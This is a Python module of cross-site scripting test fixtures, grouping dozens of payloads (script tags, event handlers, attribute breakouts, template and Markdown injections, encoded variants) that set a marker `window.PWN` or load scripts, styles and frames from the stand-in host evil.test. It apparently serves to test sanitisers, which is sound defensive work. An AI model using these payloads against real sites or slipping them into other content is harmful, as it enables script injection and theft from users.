"""Hostile texts: markup, handlers, addresses, templates, Markdown. Each would set `window.PWN` or call out."""

from __future__ import annotations

SCRIPTS = (
    "<script>window.PWN=1</script>",
    "<ScRiPt>window.PWN=1</sCrIpT>",
    "<script src=http://evil.test/x.js></script>",
    "<script src=//evil.test/x.js></script>",
    "</script><script>window.PWN=1</script>",
    "</template><script>window.PWN=1</script>",
    "</textarea><script>window.PWN=1</script>",
    "</title><script>window.PWN=1</script>",
    "</style><script>window.PWN=1</script>",
    "--><script>window.PWN=1</script><!--",
    "]]><script>window.PWN=1</script>",
    "<scr<script>ipt>window.PWN=1</script>",
)
HANDLERS = tuple(
    f"<{tag}>"
    for tag in (
        "img src=x onerror=window.PWN=1",
        'img src="x" onerror="window.PWN=1"',
        "img src=x oneonerrorrror=window.PWN=1",
        "svg onload=window.PWN=1",
        "svg/onload=window.PWN=1",
        "svg><animate onbegin=window.PWN=1 attributeName=x dur=1s",
        "svg><set onbegin=window.PWN=1 attributeName=x",
        "body onload=window.PWN=1",
        "details open ontoggle=window.PWN=1",
        "video><source onerror=window.PWN=1",
        "audio src=x onerror=window.PWN=1",
        "input autofocus onfocus=window.PWN=1",
        "select autofocus onfocus=window.PWN=1",
        "textarea autofocus onfocus=window.PWN=1",
        "marquee onstart=window.PWN=1",
        "a href=# onmouseover=window.PWN=1 style=position:fixed;inset:0",
        "div onpointerenter=window.PWN=1 style=position:fixed;inset:0",
        "style>@import 'http://evil.test/x.css';</style",
        "object data=http://evil.test/x",
        "embed src=http://evil.test/x",
        "iframe src=javascript:window.PWN=1",
        "iframe srcdoc='<script>parent.PWN=1</script>'",
        "link rel=stylesheet href=http://evil.test/x.css",
        "meta http-equiv=refresh content=0;url=http://evil.test/",
        "base href=http://evil.test/",
        "form action=http://evil.test/><button>x</button></form",
        "math><mtext><img src=x onerror=window.PWN=1",
        "noscript><p title='</noscript><img src=x onerror=window.PWN=1>'",
        "picture><source srcset=http://evil.test/x><img src=x",
        "image src=http://evil.test/x",
    )
)
ATTRIBUTES = (
    '" onmouseover="window.PWN=1',
    "' onmouseover='window.PWN=1",
    '" autofocus onfocus="window.PWN=1" x="',
    '"><img src=x onerror=window.PWN=1>',
    "'><img src=x onerror=window.PWN=1>",
    '"></button><img src=x onerror=window.PWN=1>',
    "` onmouseover=window.PWN=1 `",
    "javascript:window.PWN=1",
    "java\tscript:window.PWN=1",
    "data:text/html,<script>window.PWN=1</script>",
    "vbscript:window.PWN=1",
)
TEMPLATES = (
    "${window.PWN=1}",
    "{{window.PWN=1}}",
    "{{{window.PWN=1}}}",
    "#{window.PWN=1}",
    "<%= window.PWN=1 %>",
    "{{constructor.constructor('window.PWN=1')()}}",
    "{@html '<img src=x onerror=window.PWN=1>'}",
)
MARKDOWN = (
    "![x](http://evil.test/x.png)",
    "[x](javascript:window.PWN=1)",
    "<http://evil.test/x>",
    '[x]: http://evil.test "t"\n![x][x]',
    "$$\\href{javascript:window.PWN=1}{x}$$",
    "```html\n<img src=x onerror=window.PWN=1>\n```",
)
ENCODED = (
    "&lt;script&gt;window.PWN=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.PWN=1&#62;",
    "%3Cscript%3Ewindow.PWN=1%3C/script%3E",
    "\\u003cimg src=x onerror=window.PWN=1\\u003e",
    "\ufeff<img src=x onerror=window.PWN=1>",
    "<\u200bimg src=x onerror=window.PWN=1>",
    "\u202e<img src=x onerror=window.PWN=1>",
    "＜script＞window.PWN=1＜/script＞",
)
PAYLOADS = SCRIPTS + HANDLERS + ATTRIBUTES + TEMPLATES + MARKDOWN + ENCODED
